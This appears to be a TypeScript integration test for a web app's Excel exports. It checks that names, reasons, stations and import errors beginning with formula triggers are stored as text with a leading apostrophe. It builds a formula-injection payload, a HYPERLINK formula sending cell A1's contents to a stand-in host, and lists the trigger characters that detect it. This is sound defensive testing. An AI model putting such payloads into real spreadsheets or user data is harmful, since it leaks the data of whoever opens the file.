// Formula injection through the workbooks (issue 10, item 7). An outside attacker types spreadsheet
// formulas into what ends up in a ledger: a name on the public self-report form, a rider's name or
// station in a platform's roster, an enterprise's name, a transfer's reason. Whoever downloads the
// ledger and edits the cell (or re-saves the sheet as CSV) would run it. Every workbook the app
// serves — the members, enterprises, leads, workers and transfer ledgers, the coverage workbook and
// an import's error list — must show such text with a leading apostrophe, in a string cell, and
// never hold a formula.

import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import ExcelJS from "exceljs";
import request from "supertest";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { addDays, todayIso } from "../../../server/domain/dates.js";
import { makeIdNumber } from "../../../server/domain/id-number.js";
import { issueApiKey } from "../../../server/services/admin/api-keys.js";
import { createLink } from "../../../server/services/finds/links.js";
import { loadActor } from "../../../server/services/admin/users.js";
import { type Agent, createTestApp, csrfFrom, signIn, type TestApp } from "../../helpers/app.js";
import { addEnterprise, addMember } from "../../helpers/fixtures.js";
import { zipEntries } from "../../unit/export/xlsx-helpers.js";

/** What a spreadsheet takes for the start of a formula (Excel, WPS, LibreOffice). */
const TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"] as const;
const TRIGGER = /^[=+\-@\t\r＝＋－＠]/;
const payload = (t: string, what = "") => `${t}HYPERLINK("http://x.cn/?"&A1,"${what}点此")`;
/** How the text reads back: with the apostrophe; a CR as LF, as XML parsers (Excel's too) read it. */
const neutralised = (s: string) => `'${s}`.replace(/\r\n?/g, "\n");

let t: TestApp;
let dir: string;
let admin: Agent;
let supervisor: Agent;
let importId: number;
const PLATFORM = "某外卖平台";
const today = todayIso();
let seq = 0;
const nextId = () => makeIdNumber("371702", "1991-04-04", 500 + seq++);

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), "pc-formulas-"));
  t = await createTestApp({ uploadDir: dir });
  const { city } = t;
  const db = t.handle.sqlite;
  admin = await signIn(t.app, "t-admin");
  supervisor = await signIn(t.app, "t-supervisor");
  const secretary = await signIn(t.app, "t-sec-dl");

  // -- Over HTTP, as the attacker gets the text in ---------------------------------------------------
  // The public self-report form: no account needed.
  const link = createLink(
    t.handle.db,
    loadActor(t.handle.db, city.userIds.clerk!)!,
    { label: "站点", committeeId: city.dl.id, enterpriseId: null, expiresOn: addDays(today, 30) },
    today,
  );
  const visitor = request.agent(t.app);
  const form = await visitor.get(`/r/${link.token}`);
  const reported = await visitor
    .post(`/r/${link.token}`)
    .type("form")
    .send({ name: payload("=", "自报"), idNumber: nextId(), phone: "13900001111", consent: "on", _csrf: csrfFrom(form.text) });
  expect(reported.status).toBe(303);

  // A platform's roster: riders choose their own names; a row with a bad ID number lands on the error list.
  const key = issueApiKey(t.handle.db, loadActor(t.handle.db, city.userIds.admin!)!, {
    label: "推送",
    platform: PLATFORM,
    committeeId: city.ps.id,
  }).key;
  const batch = await request(t.app)
    .post(`/api/v1/rosters/${encodeURIComponent(PLATFORM)}/batches`)
    .set("Authorization", `Bearer ${key}`)
    .send({
      batchId: "b-1",
      complete: true,
      workers: [
        { idNumber: nextId(), name: payload("+", "骑手"), station: payload("@", "站"), politicalStatus: "中共党员" },
        { idNumber: payload("-", "号"), name: "骑手乙" },
      ],
    });
  expect(batch.status, batch.text).toBe(200);
  importId = (db.prepare("SELECT id FROM imports ORDER BY id DESC LIMIT 1").get() as { id: number }).id;

  // A secretary's transfer with a formula for a reason.
  const m = addMember(t.handle, city.dlBranch.id, { name: "转接人" });
  const csrf = await secretary.csrf("/transfers");
  const tr = await secretary
    .post("/transfers")
    .type("form")
    .send({
      kind: "internal",
      memberId: String(m.id),
      toOrgId: String(city.dlJoint.id),
      issuedOn: today,
      duesPaidTo: today.slice(0, 7),
      reason: payload("＝", "转"),
      _csrf: csrf,
    });
  expect(tr.status, tr.text.slice(0, 300)).toBe(303);

  // -- Every trigger in every workbook --------------------------------------------------------------
  // The forms trim what is typed, so a leading tab or CR cannot come in through them; data from
  // elsewhere (an older system's roster, a restored backup) can hold it. Each trigger is written
  // straight into the tables the workbooks read.
  for (const trig of TRIGGERS) {
    addMember(t.handle, city.dlBranch.id, { name: payload(trig, "党员") });
    addEnterprise(t.handle, city.dl.id, { name: payload(trig, "企业"), address: payload(trig, "地址") });
    db.prepare("INSERT INTO leads (id_number, name, channel, committee_id, found_on, note) VALUES (?, ?, 'field_visit', ?, ?, ?)").run(
      nextId(),
      payload(trig, "线索"),
      city.dl.id,
      today,
      payload(trig, "备注"),
    );
    db.prepare(
      "INSERT INTO workers (platform, id_number, name, org_id, station, first_seen_on, last_seen_on) VALUES (?, ?, ?, ?, ?, ?, ?)",
    ).run(PLATFORM, nextId(), payload(trig, "从业"), city.ps.id, payload(trig, "站点"), today, today);
    const mm = addMember(t.handle, city.dlBranch.id, { name: `转接${trig.codePointAt(0)}` });
    const id = Number(
      (
        await secretary
          .post("/transfers")
          .type("form")
          .send({
            kind: "internal",
            memberId: String(mm.id),
            toOrgId: String(city.dlJoint.id),
            issuedOn: today,
            duesPaidTo: today.slice(0, 7),
            reason: "调动",
            _csrf: csrf,
          })
      ).headers
        .location!.split("/")
        .pop(),
    );
    db.prepare("UPDATE transfers SET reason = ? WHERE id = ?").run(payload(trig, "原因"), id);
    db.prepare(
      "INSERT INTO import_issues (import_id, row_number, outcome, \"column\", value, reason) VALUES (?, ?, 'rejected', ?, ?, ?)",
    ).run(importId, 100 + seq, payload(trig, "列"), payload(trig, "值"), payload(trig, "因"));
  }
}, 60_000);
afterAll(() => {
  t?.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

async function download(agent: Agent, url: string): Promise<{ wb: ExcelJS.Workbook; xml: Map<string, string> }> {
  const res = await agent
    .get(url)
    .buffer(true)
    .parse((r, cb) => {
      const chunks: Buffer[] = [];
      r.on("data", (c: Buffer) => chunks.push(c));
      r.on("end", () => cb(null, Buffer.concat(chunks)));
    });
  expect(res.status, url).toBe(200);
  const buf = res.body as Buffer;
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  return { wb, xml: await zipEntries(buf) };
}

/** Every string cell of every sheet, by sheet name. */
function strings(wb: ExcelJS.Workbook): Map<string, string[]> {
  const out = new Map<string, string[]>();
  wb.eachSheet((ws) => {
    const list: string[] = [];
    ws.eachRow({ includeEmpty: false }, (row) => {
      row.eachCell({ includeEmpty: false }, (cell) => {
        if (typeof cell.value === "string") list.push(cell.value);
      });
    });
    out.set(ws.name, list);
  });
  return out;
}

/** No formula anywhere, and no string cell that starts like one. */
function formulaProblems(wb: ExcelJS.Workbook, xml: Map<string, string>): string[] {
  const p: string[] = [];
  for (const [name, text] of xml) if (name.startsWith("xl/worksheets/") && /<f[ >]/.test(text)) p.push(`${name} holds a formula`);
  wb.eachSheet((ws) => {
    ws.eachRow({ includeEmpty: false }, (row) => {
      row.eachCell({ includeEmpty: false }, (cell) => {
        if (cell.type === ExcelJS.ValueType.Formula || cell.formula) p.push(`${ws.name}!${cell.address} is a formula`);
        if (typeof cell.value === "string" && TRIGGER.test(cell.value))
          p.push(`${ws.name}!${cell.address} starts like a formula: ${JSON.stringify(cell.value.slice(0, 20))}`);
        if (cell.value && typeof cell.value === "object" && !(cell.value instanceof Date))
          p.push(`${ws.name}!${cell.address} is not plain text: ${JSON.stringify(cell.value).slice(0, 60)}`);
      });
    });
  });
  return p;
}

/** The workbook holds, in `sheet` (or any), each trigger's text for `what`, neutralised. */
function expectNeutralised(wb: ExcelJS.Workbook, whats: string[], sheet?: string) {
  const all = strings(wb);
  const cells = sheet ? (all.get(sheet) ?? []) : [...all.values()].flat();
  for (const what of whats) {
    for (const trig of TRIGGERS) expect(cells, `${what} after ${JSON.stringify(trig)}`).toContain(neutralised(payload(trig, what)));
  }
}

describe("every workbook neutralises text that starts like a formula", () => {
  it("the member roster", async () => {
    const { wb, xml } = await download(admin, "/reports/download?kind=members");
    expect(formulaProblems(wb, xml)).toEqual([]);
    expectNeutralised(wb, ["党员"]);
  });

  it("the enterprise list", async () => {
    const { wb, xml } = await download(admin, "/reports/download?kind=enterprises");
    expect(formulaProblems(wb, xml)).toEqual([]);
    expectNeutralised(wb, ["企业", "地址"]);
  });

  it("the leads, with the self-report form's and the platform roster's", async () => {
    const { wb, xml } = await download(admin, "/reports/download?kind=leads");
    expect(formulaProblems(wb, xml)).toEqual([]);
    expectNeutralised(wb, ["线索", "备注"]);
    const cells = [...strings(wb).values()].flat();
    // What the attacker typed into the public form and the roster, stored as typed, shown neutralised.
    expect(t.handle.sqlite.prepare("SELECT count(*) FROM leads WHERE name = ?").pluck().get(payload("=", "自报"))).toBe(1);
    expect(cells).toContain(neutralised(payload("=", "自报")));
    expect(cells).toContain(neutralised(payload("+", "骑手")));
  });

  it("the workers' roster, with the platform's rows", async () => {
    const { wb, xml } = await download(admin, "/reports/download?kind=workers");
    expect(formulaProblems(wb, xml)).toEqual([]);
    expectNeutralised(wb, ["从业", "站点"]);
    const cells = [...strings(wb).values()].flat();
    expect(cells).toContain(neutralised(payload("+", "骑手")));
    expect(cells).toContain(neutralised(payload("@", "站")));
  });

  it("the transfer ledger, from /transfers and from /reports", async () => {
    for (const url of ["/transfers/export.xlsx", "/reports/download?kind=transfers"]) {
      const { wb, xml } = await download(admin, url);
      expect(formulaProblems(wb, xml), url).toEqual([]);
      expectNeutralised(wb, ["原因"]);
      expect([...strings(wb).values()].flat(), url).toContain(neutralised(payload("＝", "转")));
    }
  });

  it("the coverage workbook: uncovered enterprises", async () => {
    const { wb, xml } = await download(supervisor, "/reports/download?kind=coverage");
    expect(formulaProblems(wb, xml)).toEqual([]);
    expectNeutralised(wb, ["企业"], "未覆盖企业");
  });

  it("an import's error list", async () => {
    const { wb, xml } = await download(admin, `/imports/${importId}/issues.xlsx`);
    expect(formulaProblems(wb, xml)).toEqual([]);
    expectNeutralised(wb, ["列", "值", "因"]);
    // The roster row whose ID number was a formula.
    expect([...strings(wb).values()].flat()).toContain(neutralised(payload("-", "号")));
  });

  it("ID numbers stay whole text cells, untouched", async () => {
    const { wb } = await download(admin, "/reports/download?kind=members");
    const ws = wb.worksheets[0]!;
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    const col = header.indexOf("公民身份号码") + 1;
    const ids = t.handle.sqlite.prepare("SELECT id_number FROM members").pluck().all() as string[];
    let seen = 0;
    for (let r = 2; r <= ws.rowCount; r++) {
      const cell = ws.getCell(r, col);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(ids).toContain(cell.value);
      seen++;
    }
    expect(seen).toBeGreaterThan(10);
  });
});
